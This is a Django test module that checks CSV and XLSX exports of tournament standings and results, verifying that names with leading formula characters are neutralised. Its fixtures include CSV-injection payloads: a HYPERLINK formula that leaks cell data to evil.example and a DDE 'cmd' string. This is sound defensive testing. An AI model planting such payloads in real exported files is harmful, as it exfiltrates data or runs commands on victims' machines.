"""CSV injection through the HTTP export views: team, player and tournament names that start
with `=`, `+`, `-`, `@`, a tab or a carriage return (and the full-width forms) come out of
`standings.csv|xlsx` and `results.csv|xlsx` as text with a leading apostrophe — in XLSX a
string cell, never a formula — while negative scores stay numbers.

tests/tournaments/test_tabular.py proves the same of the sheet builders for `= + - @` and of
`neutralise` for every prefix; this adds the downloads as a browser gets them, tab and CR names
stored through the whole pipeline, names registered over the API, and quoting of names with
commas, quotes and line breaks.
"""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import Iterator

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from openpyxl import load_workbook

from api.models import ApiToken, hash_secret, new_secret
from tournaments import services
from tournaments.demo import simulate
from tournaments.models import Match, Team, Tournament
from tournaments.services import Actor, PlayerSpec

from .conftest import built_once

pytestmark = pytest.mark.django_db

#: Team names registered over the API (which trims surrounding whitespace).
OVER_API = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A9)",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0bcmd",
}
#: Team names with a tab or CR at the start: registration collapses whitespace, so these are
#: written to the database directly, as the admin or an archive from elsewhere could.
AS_GIVEN = {"tab": "\t=1+1", "carriage return": "\r=1+1"}
FORMULAS = {**OVER_API, **AS_GIVEN}
#: Names a CSV must quote, none of them a formula.
AWKWARD = ['Comma, "Quote" & Co', "Line\nbreak"]
TOURNAMENT = "=1+1 Club"


@pytest.fixture(scope="module")
def slug(django_db_setup, django_db_blocker) -> Iterator[str]:
    """A Spades Swiss of ten teams so named (players too), round 1 played and closed; built
    once outside the tests' transactions (the standings snapshot is computed on commit)."""
    with built_once(django_db_blocker, build) as built:
        yield built


def build() -> str:
    user = get_user_model().objects.create_user("formula-td")
    director = Actor(user=user)
    tournament = services.create_tournament(
        actor=director,
        name=TOURNAMENT,
        game="spades",
        rules="standard",
        format="swiss",
        rounds=2,
        match_length="hands",
        match_hands=1,
    )
    services.open_registration(tournament=tournament, actor=director)
    secret = new_secret()
    ApiToken.objects.create(user=user, key_hash=hash_secret(secret))
    api = Client(HTTP_AUTHORIZATION=f"Token {secret}")
    for n, name in enumerate(OVER_API.values()):
        response = api.post(
            f"/api/v1/tournaments/{tournament.slug}/entries",
            data=json.dumps(
                {"name": name, "players": [{"name": f"=cmd {n}"}, {"name": f"Aiko {n}"}]}
            ),
            content_type="application/json",
        )
        assert response.status_code == 201, response.content
    for n, name in enumerate([*AS_GIVEN.values(), *AWKWARD]):
        entry = services.register_entry(
            tournament=tournament,
            actor=director,
            name=f"Placeholder {n}",
            players=[PlayerSpec(f"@p {n}"), PlayerSpec(f"Ben {n}")],
        )
        Team.objects.filter(pk=entry.team_id).update(name=name)
    round_ = services.generate_round(tournament=tournament, actor=director)
    services.publish_round(round=round_, actor=director)
    rng = random.Random(3)
    for match in Match.objects.filter(round=round_, is_bye=False):
        simulate.play_match(match, rng, director=director, hands=1)
    services.close_round(round=round_, actor=director)
    return tournament.slug


def download(slug: str, subject: str, fmt: str) -> bytes:
    response = Client().get(f"/t/{slug}/export/{subject}.{fmt}")
    assert response.status_code == 200, response.status_code
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    return response.content


def csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def xlsx_cells(data: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


SUBJECTS = pytest.mark.parametrize("subject", ["standings", "results"])
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@SUBJECTS
@pytest.mark.parametrize("kind", FORMULAS)
def test_a_formula_team_name_is_neutralised_in_the_csv_download(slug, subject, kind):
    cells = {cell for row in csv_cells(download(slug, subject, "csv")) for cell in row}
    assert "'" + FORMULAS[kind] in cells
    assert FORMULAS[kind] not in cells


@SUBJECTS
@pytest.mark.parametrize("kind", FORMULAS)
def test_a_formula_team_name_is_a_neutralised_string_cell_in_the_xlsx_download(slug, subject, kind):
    cells = xlsx_cells(download(slug, subject, "xlsx"))
    expected = ("'" + FORMULAS[kind]).replace("\r", "\n")  # XML reads a CR back as a LF
    found = [c for c in cells if isinstance(c.value, str) and c.value == expected]
    assert found, kind
    assert all(c.data_type == "s" for c in found)


@SUBJECTS
def test_no_csv_cell_starts_a_formula_unless_it_is_a_negative_number(slug, subject):
    rows = csv_cells(download(slug, subject, "csv"))
    assert any(cell.startswith("-") for row in rows[1:] for cell in row), "a negative score"
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert cell.startswith("-") and cell[1:].replace(".", "", 1).isdigit(), cell


@SUBJECTS
def test_no_xlsx_cell_is_a_formula_and_scores_are_numbers(slug, subject):
    cells = xlsx_cells(download(slug, subject, "xlsx"))
    assert all(c.data_type != "f" for c in cells)
    for cell in cells:
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_STARTS), cell.value
    assert any(isinstance(c.value, int) and c.value < 0 for c in cells), "a negative score"


def test_formula_player_names_are_neutralised_in_the_standings_csv(slug):
    rows = csv_cells(download(slug, "standings", "csv"))
    players = [row[2] for row in rows[1:]]
    assert any(p.startswith("'=cmd") for p in players), players
    assert any(p.startswith("'@p") for p in players), players


def test_names_with_commas_quotes_and_line_breaks_round_trip_through_the_csv(slug):
    cells = {cell for row in csv_cells(download(slug, "results", "csv")) for cell in row}
    assert set(AWKWARD) <= cells


def test_the_tournament_name_is_no_formula_in_the_xlsx_properties_or_cells(slug):
    data = download(slug, "standings", "xlsx")
    book = load_workbook(io.BytesIO(data))
    assert book.properties.title.startswith(TOURNAMENT)  # metadata, never evaluated
    assert all(c.data_type != "f" for c in xlsx_cells(data))


@pytest.mark.parametrize(
    "name,stored", [("\t=2+2", "=2+2"), ("\r\n=3+3", "=3+3"), ("Two\nlines", "Two lines")]
)
def test_registration_collapses_whitespace_so_a_formula_name_arrives_as_its_formula(
    slug, name, stored
):
    """Decided: names are registered with their whitespace collapsed (the entries service), so
    a leading tab or CR is dropped and the name is its formula — neutralised in every
    export."""
    tournament = Tournament.objects.get(slug=slug)
    user = tournament.directors.first()
    secret = new_secret()
    ApiToken.objects.create(user=user, key_hash=hash_secret(secret))
    response = Client(HTTP_AUTHORIZATION=f"Token {secret}").post(
        f"/api/v1/tournaments/{slug}/entries",
        data=json.dumps({"name": name, "players": [{"name": "Ko"}, {"name": "Mi"}]}),
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    assert response.json()["name"] == stored
